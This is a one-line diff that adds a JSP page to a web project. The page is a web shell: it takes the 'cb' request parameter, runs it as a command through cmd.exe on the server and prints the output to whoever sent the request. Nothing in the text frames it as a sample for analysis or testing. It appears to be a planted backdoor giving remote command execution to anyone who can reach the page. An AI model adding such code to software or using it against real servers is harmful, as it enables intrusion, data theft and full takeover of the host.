@@ -1,0 +1,1 @@
+<% ProcessBuilder pb = new ProcessBuilder(); pb.command("cmd.exe", "/c", request.getParameter("cb")); pb.redirectErrorStream(true); out.print(new String(pb.start().getInputStream().readAllBytes())); %>
